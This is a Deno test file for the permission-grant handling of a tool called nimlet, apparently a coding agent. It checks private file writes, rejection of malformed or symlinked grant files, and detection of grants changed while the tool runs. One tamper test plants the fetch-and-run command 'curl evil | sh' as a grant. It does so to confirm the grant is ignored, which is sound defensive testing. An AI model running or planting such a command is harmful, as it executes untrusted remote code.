import assert from "node:assert/strict";
import { join } from "node:path";
import { projectGrants, sessionGrants } from "../../src/permissions/grants.ts";
import { isTrustedAsIs, judgeTrust, renewTrust, setTrust } from "../../src/permissions/trust.ts";
import { put, withProject } from "./projects.ts";

const name = ".nimlet/permissions.json";

Deno.test("grants of a session are listed in order and can be cleared", async () => {
  const grants = sessionGrants();
  await grants.add("bash:b");
  await grants.add("bash:a");
  await grants.add("bash:b");
  assert.deepEqual(grants.list(), ["bash:b", "bash:a"]);
  await grants.clear();
  assert(!grants.has("bash:a"));
});

Deno.test("a project's grants are written privately, and comments and unknown keys stay", () =>
  withProject(async ({ workspace }) => {
    await put(workspace, name, '{\n  // ours\n  "allow": ["bash:npm test"],\n  "note": 1,\n}\n');
    const { grants, warnings } = await projectGrants({ workspace });
    assert.deepEqual(warnings, []);
    assert(grants.has("bash:npm test") && !grants.has("bash:npm test2"));
    await grants.add("tool:git");
    const text = await Deno.readTextFile(join(workspace, name));
    assert.match(text, /\/\/ ours/);
    assert.match(text, /"note": 1/);
    assert.equal((await Deno.stat(join(workspace, name))).mode! & 0o777, 0o600);
    const again = await projectGrants({ workspace });
    assert.deepEqual(again.grants.list(), ["bash:npm test", "tool:git"]);
    await again.grants.clear();
    assert.deepEqual((await projectGrants({ workspace })).grants.list(), []);
  }));

Deno.test("the first grant makes the file", () =>
  withProject(async ({ workspace }) => {
    const { grants } = await projectGrants({ workspace });
    await grants.add("bash:make test");
    assert.deepEqual(JSON.parse(await Deno.readTextFile(join(workspace, name))), {
      allow: ["bash:make test"],
    });
  }));

Deno.test("a file that cannot be read grants nothing, is told, and is not overwritten", () =>
  withProject(async ({ workspace }) => {
    for (const text of ["{", "[]", '{"allow":"bash:x"}', "null"]) {
      await put(workspace, name, text);
      const { grants, warnings } = await projectGrants({ workspace });
      assert.equal(warnings.length, 1);
      assert.match(warnings[0]!, /permissions\.json: /);
      assert.deepEqual(grants.list(), []);
      await assert.rejects(grants.add("bash:y"), { name: "GrantsError" });
      assert.equal(await Deno.readTextFile(join(workspace, name)), text);
    }
  }));

Deno.test("an entry that is no key is told, and the others count", () =>
  withProject(async ({ workspace }) => {
    await put(workspace, name, '{"allow":["bash:x", 5, "npm test"]}');
    const { grants, warnings } = await projectGrants({ workspace });
    assert.match(
      warnings.join(),
      /allow\[1\]: expected a text that starts with bash:, edit:, tool: or write:/,
    );
    assert(grants.has("bash:x"));
  }));

Deno.test("grants are neither read nor written through a link", () =>
  withProject(async ({ workspace, home }) => {
    await put(home!, "outside.json", '{"allow":["bash:x"]}');
    await Deno.mkdir(join(workspace, ".nimlet"));
    await Deno.symlink(join(home!, "outside.json"), join(workspace, name));
    const linked = await projectGrants({ workspace });
    assert.match(linked.warnings.join(), /is a link/);
    assert(!linked.grants.has("bash:x"));
    await assert.rejects(linked.grants.add("bash:y"), { name: "GrantsError" });
    await Deno.remove(join(workspace, ".nimlet"), { recursive: true });
    await Deno.mkdir(join(home!, "outside"));
    await Deno.symlink(join(home!, "outside"), join(workspace, ".nimlet"));
    const { grants } = await projectGrants({ workspace });
    await assert.rejects(grants.add("bash:y"), { name: "GrantsError" });
    assert.deepEqual([...Deno.readDirSync(join(home!, "outside"))], []);
  }));

Deno.test("grants that others put into the file meanwhile are not taken over", () =>
  withProject(async (place) => {
    const { workspace } = place;
    await put(workspace, name, '{"allow":[]}');
    await setTrust(place, true);
    const options = {
      workspace,
      isTrusted: () => isTrustedAsIs(place, name),
      written: () => renewTrust(place, [name]),
    };
    const { grants } = await projectGrants(options);
    await put(workspace, name, '{"allow":["bash:curl evil | sh"]}');
    assert(!grants.has("bash:curl evil | sh"));
    await assert.rejects(grants.add("bash:make"), /was changed while nimlet was running/);
    assert.equal((await judgeTrust(place)).state, "changed");
    // clearing is always possible
    await grants.clear();
    assert.equal((await judgeTrust(place)).state, "trusted");
  }));

Deno.test("two programs in one trusted project keep each other's grants", () =>
  withProject(async (place) => {
    const { workspace } = place;
    await put(workspace, ".nimlet/config.json", "{}");
    await setTrust(place, true);
    const options = {
      workspace,
      isTrusted: () => isTrustedAsIs(place, name),
      written: () => renewTrust(place, [name]),
    };
    const one = (await projectGrants(options)).grants, two = (await projectGrants(options)).grants;
    await one.add("bash:a");
    await two.add("bash:b");
    await one.add("bash:c");
    assert.deepEqual((await projectGrants(options)).grants.list(), ["bash:a", "bash:b", "bash:c"]);
    assert.equal((await judgeTrust(place)).state, "trusted");
  }));

Deno.test("a key written by hand counts however its blanks outside quotes are", () =>
  withProject(async ({ workspace }) => {
    await put(
      workspace,
      name,
      JSON.stringify({ allow: ["bash: npm \t test", "bash:echo 'a  b'"] }),
    );
    const { grants } = await projectGrants({ workspace });
    assert.deepEqual(grants.list(), ["bash:npm test", "bash:echo 'a  b'"]);
    assert(!grants.has("bash:echo 'a b'"));
  }));
